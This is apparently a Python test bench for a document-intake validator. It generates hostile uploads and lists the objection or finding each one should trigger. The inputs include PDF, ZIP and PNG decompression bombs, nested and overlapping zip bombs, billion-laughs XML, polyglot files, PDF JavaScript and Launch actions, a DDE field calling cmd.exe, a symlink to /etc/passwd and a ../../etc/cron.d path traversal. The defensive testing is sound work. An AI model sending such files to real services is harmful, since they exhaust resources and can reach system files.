"""Hostile files, each made here: what it is, and what is to become of it.

Nothing of the kind is kept in the repository; `python -m tests.bench.hostile` prints the table.
"""

import base64
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from documents.intake import Finding, Objection

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MEBIBYTE = 1 << 20
Outcome = Objection | frozenset[Finding]


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """A file that somebody may hand in with an intent."""

    what: str
    name: str
    make: Callable[[], bytes]
    outcome: Outcome


# ------------------------------------------------------------------ harmless ground


def pdf(
    pages: int = 1, change: Callable[[pikepdf.Pdf], object] | None = None, **save: Any
) -> bytes:
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page()
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **save)
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 30), **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind, **save)
    return out.getvalue()


def docx(
    extra: dict[str, bytes | str] | None = None,
    *,
    main: str = MAIN,
    body: str = "<w:p><w:r><w:t>Сотко арыз</w:t></w:r></w:p>",
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" '
            f'ContentType="{main}"/></Types>',
        )
        archive.writestr(
            "word/document.xml",
            f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
        )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def relations(kind: str, target: str, *, external: bool = True) -> dict[str, bytes | str]:
    mode = ' TargetMode="External"' if external else ""
    return {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" '
        f'Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    }


def raw_pdf(*objects: bytes, root: int = 1) -> bytes:
    """Write a PDF by hand, for what no library agrees to write."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\n" % (len(objects) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, words: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (words, len(data), data)


def one_page(content: bytes, *more: bytes, page: bytes = b"") -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%b>>" % page,
        content,
        *more,
    )


EMPTY = stream(b"", b"")


# ------------------------------------------------------------------ PDF: bombs


def unfolding(filling: bytes, size: int, before: bytes = b"") -> bytes:
    """Pack `size` bytes of one letter at the price of packing a mebibyte: raw deflate."""
    packer = zlib.compressobj(9, wbits=-15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(filling * MEBIBYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * (size // MEBIBYTE) + packer.flush()


def zeros(size: int) -> bytes:
    """Pack zeros as zlib does, its sum included (RFC 1950)."""
    total = (size % 65_521) << 16 | 1
    return b"\x78\xda" + unfolding(b"\0", size) + struct.pack(">I", total)


def packed_zip(*entries: tuple[str, bytes, int, int]) -> bytes:
    """Write a ZIP by hand: names, packed bytes, and the sizes and sums that are claimed."""
    out, directory = bytearray(), bytearray()
    for name, data, size, crc in entries:
        fixed = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + fixed
        directory += struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name.encode()
        out += b"PK\x03\x04" + fixed + name.encode() + data
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(out), 0)
    return bytes(out + directory + b"PK\x05\x06" + end)


def double_flate() -> bytes:
    data = zlib.compress(zeros(512 * MEBIBYTE), 9)
    return one_page(stream(data, b"/Filter[/FlateDecode/FlateDecode]"))


def single_flate() -> bytes:
    return one_page(stream(zeros(300 * MEBIBYTE), b"/Filter/FlateDecode"))


def many_drawings() -> bytes:
    """No stream alone is too long."""
    data = zeros(30 * MEBIBYTE)
    contents = [stream(data, b"/Filter/FlateDecode") for _ in range(10)]
    return one_page(EMPTY, *contents)


def hidden_in_ascii() -> bytes:
    data = zeros(300 * MEBIBYTE).hex().encode() + b">"
    return one_page(stream(data, b"/Filter[/ASCIIHexDecode/FlateDecode]"))


def hidden_in_85() -> bytes:
    data = base64.a85encode(zeros(300 * MEBIBYTE)) + b"~>"
    return one_page(stream(data, b"/Filter[/A85/Fl]"))


def object_stream() -> bytes:
    """The objects themselves are packed, so they unfold before anybody has asked for one."""
    data = b"\x78\xda" + unfolding(b" ", 1024 * MEBIBYTE, b"5 0 <</A 1>>")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        stream(data, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
    ]
    out = bytearray(b"%PDF-1.7\n")
    rows = [struct.pack(">BIB", 0, 0, 255)]
    for number, one in enumerate(objects, 1):
        rows.append(struct.pack(">BIB", 1, len(out), 0))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    rows.append(struct.pack(">BIB", 2, 4, 0))
    start = len(out)
    table = b"".join((*rows, struct.pack(">BIB", 1, start, 0)))
    words = b"/Type/XRef/W[1 4 1]/Size 7/Root 1 0 R"
    out += b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(table, words), start)
    return bytes(out)


def lying_picture() -> bytes:
    """It says that it is small, and unfolds without end."""
    words = b"/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8"
    data = stream(zeros(300 * MEBIBYTE), words + b"/ColorSpace/DeviceGray/Filter/FlateDecode")
    return one_page(EMPTY, data)


def vast_picture() -> bytes:
    words = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1"
    data = zlib.compress(b"\0" * 1000)
    return one_page(EMPTY, stream(data, words + b"/ColorSpace/DeviceGray/Filter/FlateDecode"))


def picture_in_pdf(data: bytes, coding: bytes) -> bytes:
    words = b"/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8"
    return one_page(EMPTY, stream(data, words + b"/ColorSpace/DeviceGray/Filter/" + coding))


def vast_jpeg() -> bytes:
    """Ten dots by ten for the PDF; 60,000 by 60,000 for who reads the JPEG inside."""
    data = bytearray(picture("JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


def vast_jpx() -> bytes:
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, "JPEG2000", no_jp2=True)
    data = bytearray(out.getvalue())
    size = data.index(b"\xff\x51")
    data[size + 6 : size + 14] = struct.pack(">II", 60_000, 60_000)
    data[size + 22 : size + 30] = struct.pack(">II", 60_000, 60_000)
    return bytes(data)


def vast_jbig2() -> bytes:
    page = struct.pack(">IIIIBH", 60_000, 60_000, 0, 0, 0, 0)
    return struct.pack(">IBBBI", 0, 48, 0, 1, len(page)) + page


def vast_inline_picture() -> bytes:
    words = b"q 500 0 0 500 0 0 cm BI /W 60000 /H 60000 /BPC 8 /CS /G /F /Fl ID x EI Q"
    return one_page(stream(zlib.compress(words), b"/Filter/FlateDecode"))


def wide_predictor() -> bytes:
    parameters = b"/DecodeParms<</Predictor 15/Columns 2000000000>>"
    return one_page(stream(zlib.compress(b"\0" * 10), b"/Filter/FlateDecode" + parameters))


def vast_sheet() -> bytes:
    return pdf(
        change=lambda made: made.pages[0].__setattr__("mediabox", [0, 0, 9_000_000, 9_000_000])
    )


def many_pages() -> bytes:
    kids = b" ".join([b"3 0 R"] * 2_001)
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count 2001>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def pages_in_a_circle() -> bytes:
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")


def tables_in_a_circle() -> bytes:
    """The cross-reference table says that its predecessor is itself; qpdf finds the page anyway."""
    data = one_page(EMPTY)
    start = data.rindex(b"startxref\n") + 10
    number = data[start : data.index(b"\n", start)]
    return data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %b>>" % number)


def deep_nesting() -> bytes:
    return one_page(EMPTY, b"[" * 100_000 + b"]" * 100_000)


# ------------------------------------------------------------------ PDF: what acts


def script_on_opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))


def script_in_names(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))


def escaped_script() -> bytes:
    return one_page(EMPTY, b"<</S/J#61vaScr#69pt/#4AS(app.alert\\(1\\))>>", page=b"/AA<</O 5 0 R>>")


def annotated(**words: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **words)
        made.pages[0].obj.Annots = made.make_indirect(Array([made.make_indirect(note)]))

    return change


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["тиркеме.exe"] = b"MZ not really"


def formed(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp/>"), Fields=Array())


def external_stream() -> bytes:
    return one_page(stream(b"", b"/F(http://192.0.2.1/x)"))


def postscript() -> bytes:
    return one_page(EMPTY, stream(b"showpage", b"/Type/XObject/Subtype/PS"))


# ------------------------------------------------------------------ two in one


def pdf_and_zip() -> bytes:
    out = io.BytesIO(pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("payload.exe", b"MZ")
    return out.getvalue()


def picture_and_zip() -> bytes:
    out = io.BytesIO(picture("PNG"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("payload.exe", b"MZ")
    return out.getvalue()


def picture_and_pdf() -> bytes:
    data = picture("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", 10) + b"%PDF-1.7" + data[2:]


def picture_and_page() -> bytes:
    """A comment of the photograph is a page of the web; nobody reads it, and the view drops it."""
    page = b"<html><script>alert(1)</script></html>"
    data = picture("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page + data[2:]


def word_and_pdf() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("%PDF-1.7", b"")
    return out.getvalue()


# ------------------------------------------------------------------ DOCX


def word_parts(*more: tuple[str, bytes, int, int]) -> bytes:
    """A DOCX whose other parts are written by hand."""
    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
        parts = [(name, archive.read(name)) for name in archive.namelist()]
    packed = [
        (name, zlib.compress(data, 9)[2:-4], len(data), zlib.crc32(data)) for name, data in parts
    ]
    return packed_zip(*packed, *more)


def zip_bomb() -> bytes:
    size = 300 * MEBIBYTE
    return word_parts(("word/media/a.bmp", unfolding(b"\0", size), size, 0))


def lying_sizes() -> bytes:
    """The directory says that a part of 300 MB has ten bytes."""
    return word_parts(("word/media/a.bmp", unfolding(b"\0", 300 * MEBIBYTE), 10, 0))


def nested_zip_bomb() -> bytes:
    """After 42.zip: a ZIP of ZIPs of zeros; what an attachment holds is never unpacked here."""
    size = 64 * MEBIBYTE
    data = packed_zip(*((f"{n}.bmp", unfolding(b"\0", size), size, 0) for n in range(8)))
    for level in range(3):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"lib {level} {number}.zip", data)
        data = out.getvalue()
    return docx({"word/embeddings/42.zip": data})


def overlapping() -> bytes:
    """After Fifield's bomb: many names in the directory, one pile of bytes."""
    data = docx({"word/media/aa.bmp": bytes(8 * MEBIBYTE)})
    end = data.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", data, end + 12)
    directory = data[start : start + size]
    entry = directory[directory.rindex(b"PK\x01\x02") :]
    names = [f"{chr(98 + n // 20)}{chr(97 + n % 20)}.bmp".encode() for n in range(400)]
    copies = b"".join(entry.replace(b"aa.bmp", name) for name in names)
    close = struct.pack("<HHHHIIH", 0, 0, 403, 403, size + len(copies), start, 0)
    return data[:start] + directory + copies + b"PK\x05\x06" + close


def link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/passwd")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def locked_docx() -> bytes:
    data = bytearray(docx())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(magic)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(magic, at + 4)
    return bytes(data)


def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE x [<!ENTITY l0 "лол">{entities}]><x>&l9;</x>'
    return docx({"word/_rels/document.xml.rels": laughs})


def field(*instructions: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    return docx(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


def office_with_password() -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return head + "EncryptedPackage".encode("utf-16-le") + bytes(900)


# ------------------------------------------------------------------ pictures


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def vast_png() -> bytes:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    drawn = chunk(b"IDAT", zeros(430 * MEBIBYTE))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + drawn + chunk(b"IEND", b"")


def words_without_end() -> bytes:
    data = picture("PNG")
    end = data.index(b"IEND") - 4
    return data[:end] + chunk(b"zTXt", b"x\0\0" + zeros(200 * MEBIBYTE)) + data[end:]


def vast_tiff() -> bytes:
    data = bytearray(picture("TIFF"))
    for tag in (256, 257):  # width, length
        for kind in (3, 4):
            at = data.find(struct.pack("<HH", tag, kind))
            if at >= 0:
                struct.pack_into("<HII", data, at + 2, 4, 1, 60_000)
    return bytes(data)


def many_tiffs() -> bytes:
    """One picture, and 2,001 directories that name it."""
    data = bytearray(picture("TIFF"))
    (at,) = struct.unpack_from("<I", data, 4)
    (entries,) = struct.unpack_from("<H", data, at)
    directory = bytes(data[at : at + 2 + 12 * entries])
    struct.pack_into("<I", data, 4, len(data))
    for page in range(2_001):
        following = len(data) + len(directory) + 4
        data += directory + struct.pack("<I", following if page < 2_000 else 0)
    return bytes(data)


B, T = Objection.BOMB, Objection.TWO_IN_ONE


def _told(*found: Finding) -> frozenset[Finding]:
    return frozenset(found)


FILES = (
    Hostile(what="PDF of 1.5 KB, packed twice: 512 MB", name="a.pdf", make=double_flate, outcome=B),
    Hostile(what="PDF with one drawing of 300 MB", name="a.pdf", make=single_flate, outcome=B),
    Hostile(what="PDF with ten drawings of 30 MB", name="a.pdf", make=many_drawings, outcome=B),
    Hostile(what="the same bomb in hexadecimal", name="a.pdf", make=hidden_in_ascii, outcome=B),
    Hostile(what="the same bomb in base 85", name="a.pdf", make=hidden_in_85, outcome=B),
    Hostile(what="PDF whose objects unfold to 1 GB", name="a.pdf", make=object_stream, outcome=B),
    Hostile(what="PDF picture that unfolds past its size", name="a.pdf", make=lying_picture,
            outcome=B),
    Hostile(what="PDF picture of 60,000 × 60,000", name="a.pdf", make=vast_picture, outcome=B),
    Hostile(what="the same in a JPEG in the PDF", name="a.pdf",
            make=lambda: picture_in_pdf(vast_jpeg(), b"DCTDecode"), outcome=B),
    Hostile(what="the same in a JPEG 2000 in the PDF", name="a.pdf",
            make=lambda: picture_in_pdf(vast_jpx(), b"JPXDecode"), outcome=B),
    Hostile(what="the same in a JBIG2 in the PDF", name="a.pdf",
            make=lambda: picture_in_pdf(vast_jbig2(), b"JBIG2Decode"), outcome=B),
    Hostile(what="the same within a drawing", name="a.pdf", make=vast_inline_picture, outcome=B),
    Hostile(what="PDF with lines of 2 GB in a predictor", name="a.pdf", make=wide_predictor,
            outcome=B),
    Hostile(what="PDF sheet of 3 km", name="a.pdf", make=vast_sheet, outcome=B),
    Hostile(what="PDF of 2,001 pages in 12 KB", name="a.pdf", make=many_pages,
            outcome=Objection.TOO_MANY_PAGES),
    Hostile(what="PDF whose pages are a circle", name="a.pdf", make=pages_in_a_circle,
            outcome=Objection.DAMAGED),
    Hostile(what="PDF whose tables are a circle", name="a.pdf", make=tables_in_a_circle,
            outcome=_told()),
    Hostile(what="PDF nested 100,000 deep", name="a.pdf", make=deep_nesting, outcome=_told()),
    Hostile(what="PDF that asks for a password", name="a.pdf",
            make=lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="y")),
            outcome=Objection.ENCRYPTED),
    Hostile(what="PDF locked without a password to open", name="a.pdf",
            make=lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="")),
            outcome=Objection.ENCRYPTED),
    Hostile(what="PDF with a script on opening", name="a.pdf",
            make=lambda: pdf(change=script_on_opening), outcome=_told(Finding.SCRIPT)),
    Hostile(what="PDF with a script in its names, packed", name="a.pdf",
            make=lambda: pdf(change=script_in_names,
                             object_stream_mode=pikepdf.ObjectStreamMode.generate),
            outcome=_told(Finding.SCRIPT)),
    Hostile(what="PDF with /J#61vaScript", name="a.pdf", make=escaped_script,
            outcome=_told(Finding.SCRIPT)),
    Hostile(what="PDF that starts a program", name="a.pdf",
            make=lambda: pdf(change=annotated(Subtype=Name.Link, A=Dictionary(
                S=Name.Launch, F=String("cmd.exe")))), outcome=_told(Finding.LAUNCH)),
    Hostile(what="PDF that sends its form away", name="a.pdf",
            make=lambda: pdf(change=annotated(Subtype=Name.Link, A=Dictionary(
                S=Name.SubmitForm, F=String("http://192.0.2.1/")))),
            outcome=_told(Finding.SUBMIT)),
    Hostile(what="PDF with a program attached", name="a.pdf", make=lambda: pdf(change=attached),
            outcome=_told(Finding.ATTACHMENT)),
    Hostile(what="PDF with a note that carries a file", name="a.pdf",
            make=lambda: pdf(change=annotated(Subtype=Name.FileAttachment)),
            outcome=_told(Finding.ATTACHMENT)),
    Hostile(what="PDF with a film", name="a.pdf",
            make=lambda: pdf(change=annotated(Subtype=Name.RichMedia)),
            outcome=_told(Finding.MEDIA)),
    Hostile(what="PDF with an XFA form", name="a.pdf", make=lambda: pdf(change=formed),
            outcome=_told(Finding.FORM)),
    Hostile(what="PDF that fetches its page from elsewhere", name="a.pdf", make=external_stream,
            outcome=_told(Finding.EXTERNAL)),
    Hostile(what="PDF with PostScript", name="a.pdf", make=postscript,
            outcome=_told(Finding.SCRIPT)),
    Hostile(what="PDF behind a script (not from its first byte)", name="a.pdf",
            make=lambda: b"#!/bin/sh\n" + pdf(), outcome=Objection.MISMATCH),
    Hostile(what="PDF and ZIP in one", name="a.pdf", make=pdf_and_zip, outcome=T),
    Hostile(what="PDF with 4 KB behind its end", name="a.pdf",
            make=lambda: pdf() + b"<script>x</script>" * 230, outcome=T),
    Hostile(what="PDF with a word behind its end", name="a.pdf", make=lambda: pdf() + b"cut here",
            outcome=_told(Finding.TAIL)),
    Hostile(what="PDF cut off", name="a.pdf", make=lambda: pdf()[:200], outcome=Objection.DAMAGED),
    Hostile(what="program called PDF", name="a.pdf", make=lambda: b"MZ" + bytes(900),
            outcome=Objection.MISMATCH),
    Hostile(what="page of the web called PDF", name="a.pdf", make=lambda: b"<html>%PDF-1.7",
            outcome=Objection.MISMATCH),
    Hostile(what="GIF that is a script", name="a.gif", make=lambda: b"GIF89a=1;alert(1)//",
            outcome=Objection.UNSUPPORTED),
    Hostile(what="the same called JPEG", name="a.jpg", make=lambda: b"GIF89a=1;alert(1)//",
            outcome=Objection.MISMATCH),
    Hostile(what="SVG with a script", name="a.svg", make=lambda: b"<svg onload='x()'/>",
            outcome=Objection.UNSUPPORTED),
    Hostile(what="ZIP", name="a.zip", make=docx, outcome=Objection.UNSUPPORTED),
    Hostile(what="program with its name turned round", name="a\u202efdp.exe", make=pdf,
            outcome=Objection.UNSUPPORTED),
    Hostile(what="JPEG with a page of the web in a comment", name="a.jpg", make=picture_and_page,
            outcome=_told()),
    Hostile(what="JPEG and PDF in one", name="a.jpg", make=picture_and_pdf, outcome=T),
    Hostile(what="PNG and ZIP in one", name="a.png", make=picture_and_zip, outcome=T),
    Hostile(what="PNG of 60,000 × 60,000", name="a.png", make=vast_png, outcome=B),
    Hostile(what="JPEG of 60,000 × 60,000", name="a.jpg", make=vast_jpeg, outcome=B),
    Hostile(what="TIFF of 60,000 × 60,000", name="a.tif", make=vast_tiff, outcome=B),
    Hostile(what="TIFF of 2,001 pages", name="a.tif", make=many_tiffs,
            outcome=Objection.TOO_MANY_PAGES),
    Hostile(what="PNG with 200 MB of words", name="a.png", make=words_without_end,
            outcome=Objection.DAMAGED),
    Hostile(what="JPEG cut off", name="a.jpg", make=lambda: picture("JPEG", (900, 900))[:900],
            outcome=Objection.DAMAGED),
    Hostile(what="DOCX of 300 KB that unfolds to 300 MB", name="a.docx", make=zip_bomb, outcome=B),
    Hostile(what="the same with a lying directory", name="a.docx", make=lying_sizes,
            outcome=Objection.DAMAGED),
    Hostile(what="DOCX with ZIPs of ZIPs of ZIPs inside", name="a.docx", make=nested_zip_bomb,
            outcome=_told(Finding.ATTACHMENT)),
    Hostile(what="DOCX with 400 names for one pile of bytes", name="a.docx", make=overlapping,
            outcome=B),
    Hostile(what="DOCX that leaves its folder (..)", name="a.docx",
            make=lambda: docx({"../../etc/cron.d/x": "x"}), outcome=Objection.DAMAGED),
    Hostile(what="DOCX with a link to /etc/passwd", name="a.docx", make=link,
            outcome=Objection.DAMAGED),
    Hostile(what="DOCX behind a program", name="a.docx", make=lambda: b"MZ" + docx(),
            outcome=Objection.MISMATCH),
    Hostile(what="DOCX behind a ZIP", name="a.docx",
            make=lambda: b"PK\x03\x04" + bytes(40) + docx(), outcome=T),
    Hostile(what="ZIP with %PDF- at its beginning", name="a.docx", make=word_and_pdf, outcome=T),
    Hostile(what="DOCX with macros", name="a.docx", make=lambda: docx({"word/vbaProject.bin": "x"}),
            outcome=Objection.MACROS),
    Hostile(what="DOCM called DOCX", name="a.docx",
            make=lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
            outcome=Objection.MACROS),
    Hostile(what="DOCX with an ActiveX control", name="a.docx",
            make=lambda: docx({"word/activeX/activeX1.bin": "x"}), outcome=Objection.MACROS),
    Hostile(what="DOCX with DDE, cut in pieces", name="a.docx",
            make=lambda: field("DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
            outcome=Objection.MACROS),
    Hostile(what="DOCX with a template elsewhere", name="a.docx",
            make=lambda: docx(relations("attachedTemplate", "http://192.0.2.1/a.dotm")),
            outcome=_told(Finding.EXTERNAL)),
    Hostile(what="DOCX with a picture elsewhere", name="a.docx",
            make=lambda: docx(relations("image", "file://192.0.2.1/share/a.png")),
            outcome=_told(Finding.EXTERNAL)),
    Hostile(what="DOCX that includes a text from elsewhere", name="a.docx",
            make=lambda: field("INCLUDETEXT http://192.0.2.1/a"),
            outcome=_told(Finding.EXTERNAL)),
    Hostile(what="DOCX with an OLE object", name="a.docx",
            make=lambda: docx({"word/embeddings/oleObject1.bin": "x"}),
            outcome=_told(Finding.ATTACHMENT)),
    Hostile(what="DOCX with a page of the web inside", name="a.docx",
            make=lambda: docx(relations("aFChunk", "a.html", external=False)),
            outcome=_told(Finding.ATTACHMENT)),
    Hostile(what="DOCX with a billion laughs", name="a.docx", make=billion_laughs, outcome=B),
    Hostile(what="DOCX locked as a ZIP", name="a.docx", make=locked_docx,
            outcome=Objection.ENCRYPTED),
    Hostile(what="DOCX with Office's password", name="a.docx", make=office_with_password,
            outcome=Objection.ENCRYPTED),
    Hostile(what="nothing", name="a.pdf", make=bytes, outcome=Objection.EMPTY),
)  # fmt: skip
